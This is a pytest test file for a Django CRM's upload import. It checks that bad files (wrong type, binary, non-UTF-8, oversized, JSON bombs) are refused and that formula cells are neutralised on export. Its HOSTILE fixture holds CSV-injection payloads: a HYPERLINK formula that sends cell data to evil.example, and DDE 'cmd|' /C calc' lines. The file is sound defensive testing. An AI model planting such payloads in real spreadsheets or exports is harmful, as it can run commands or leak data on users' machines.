"""Hostile uploads through the staff page and the API (RELIABILITY.md, bad input): wrong type,
oversized, wrong encoding, formulas and control characters, JSON bombs. A refused file gets a
clear message and leaves nothing behind; a file whose content is merely hostile imports as
plain data and never comes back out as a live formula."""

from __future__ import annotations

import csv
import html
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.services import api_token_create
from crm.importing.jobs import import_job_run
from crm.models import Contact, ImportJob, ImportRowError, ImportStatus

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
XLSX = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64


@pytest.fixture
def staff(client, make_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(make_user("Campaign manager"))
    return client


@pytest.fixture
def api(api_client, make_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    _, key = api_token_create(user=make_user("Campaign manager"), name="uploads")
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return api_client


def staff_upload(client, name: str, content: bytes, **extra):
    return client.post(
        reverse("crm:import_new"),
        {"file": SimpleUploadedFile(name, content), "dry_run": "", **extra},
    )


def assert_nothing_left():
    assert not ImportJob.objects.exists()
    assert not Contact.objects.exists()


REFUSED = [
    ("contacts.xlsx", XLSX, "Upload a .csv, .json or .jsonl file."),
    ("contacts.exe", b"MZ\x90\x00", "Upload a .csv, .json or .jsonl file."),
    ("photo.csv", PNG, "The file looks binary"),
    ("utf16.csv", "phone,name\n+919812345678,Asha\n".encode("utf-16"), "looks binary"),
    ("latin1.csv", "phone,name\n+919812345678,Jos\xe9\n".encode("latin-1"), "not UTF-8"),
    ("empty.csv", b"", "file is empty."),
    ("noheader.csv", b"name,tags\nAsha,vip\n", "needs a 'phone' column"),
    ("array.json", b"[" * 100_000, "nested too deeply"),
    (
        "deep.json",
        json.dumps([{"phone": "+919812345678", "x": [[[[[[1]]]]]]}]).encode(),
        "nested deeper than",
    ),
    ("bignum.json", b'[{"phone": 1' + b"0" * 10_000 + b"}]", "cannot be read"),
    ("object.json", b'"just text"', "must be an array"),
    ("lines.jsonl", b"[1, 2]\n", "one object per line"),
]


@pytest.mark.parametrize(("name", "content", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_the_staff_page_refuses_with_a_clear_message_and_keeps_nothing(
    staff, name, content, message
):
    response = staff_upload(staff, name, content)
    assert response.status_code == 200  # the form again, with the reason
    assert message in html.unescape(response.content.decode())
    assert_nothing_left()


@pytest.mark.parametrize(("name", "content", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_the_api_refuses_with_a_clear_error_and_keeps_nothing(api, name, content, message):
    response = api.post(
        "/api/v1/imports/", {"file": SimpleUploadedFile(name, content)}, format="multipart"
    )
    assert response.status_code in (400, 422), response.content
    assert message in json.dumps(response.json()["error"])
    assert_nothing_left()


def test_an_oversized_upload_is_refused_before_it_is_stored(staff, api, settings):
    settings.IMPORT_MAX_BYTES = 1_000
    content = b"phone,name\n" + b"+919812345678,Asha\n" * 100  # ~1.9 kB
    response = staff_upload(staff, "big.csv", content)
    assert "the limit is" in response.content.decode()
    response = api.post(
        "/api/v1/imports/", {"file": SimpleUploadedFile("big.csv", content)}, format="multipart"
    )
    assert response.json()["error"]["code"] == "file_too_large"
    # A declared length far over the limit is answered before the body is read at all.
    response = staff.post(
        reverse("crm:import_new"),
        data=b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(settings.IMPORT_MAX_BYTES + 10 * 1024 * 1024),
    )
    assert response.status_code == 413
    response = api.post(
        "/api/v1/imports/",
        data=b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(settings.IMPORT_MAX_BYTES + 10 * 1024 * 1024),
    )
    assert response.status_code == 413
    assert_nothing_left()


HOSTILE = (
    "phone,name,tags\n"
    '+919812345601,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",vip\n'
    "+919812345602,+cmd|' /C calc'!A0,\n"
    "+919812345603,@SUM(1+1)*cmd|' /C calc'!A0,\n"
    "+919812345604,-2+3+cmd|' /C calc'!A0,\n"
    "+919812345605,Asha\x1b[31m Red\x07,=tag\n"
    '+919812345606,"\tTabbed\rName",\n'
    "=cmd|' /C calc'!A0,Not a phone,\n"
    "+919812345607,Bare\rReturn,\n"  # a carriage return outside quotes: that row is refused
)


def test_formulas_import_as_text_and_never_come_back_out_as_formulas(staff, make_user):
    response = staff_upload(staff, "hostile.csv", HOSTILE.encode())
    job = ImportJob.objects.get()
    assert response.status_code == 302
    import_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ImportStatus.COMPLETED
    assert (job.created_count, job.error_count) == (6, 2), list(
        ImportRowError.objects.values_list("line", "column", "value", "reason")
    )

    names = dict(Contact.objects.values_list("phone", "name"))
    assert names["+919812345601"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    # Control characters are dropped; the rest of the text is kept.
    assert names["+919812345605"] == "Asha[31m Red"
    assert names["+919812345606"] == "Tabbed Name"
    assert all("\x1b" not in n and "\x07" not in n for n in names.values())

    # The export and the error report neutralise every formula-looking cell.
    staff.force_login(make_user("Admin"))
    export = b"".join(staff.get(reverse("crm:contact_export")).streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(export.lstrip("\ufeff"))) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "@", "-")) for cell in cells)
    assert not any(cell.startswith("+") and not cell[1:].isdigit() for cell in cells)

    error, unreadable = ImportRowError.objects.filter(job=job).order_by("line")
    assert error.value == "=cmd|' /C calc'!A0" and error.reason == "invalid phone"
    assert unreadable.line == 9 and unreadable.reason.startswith("unreadable CSV")
    report = b"".join(
        staff.get(reverse("crm:import_errors", args=[job.pk])).streaming_content
    ).decode()
    assert "'=cmd|' /C calc'!A0" in report


def test_a_json_bomb_of_many_records_in_one_line_is_refused_by_record_size(staff, settings):
    settings.IMPORT_JSON_MAX_RECORD_BYTES = 1_000
    record = {"phone": "+919812345678", "name": "x" * 5_000}
    response = staff_upload(staff, "bomb.json", json.dumps([record]).encode())
    assert "larger than" in response.content.decode()
    assert_nothing_left()
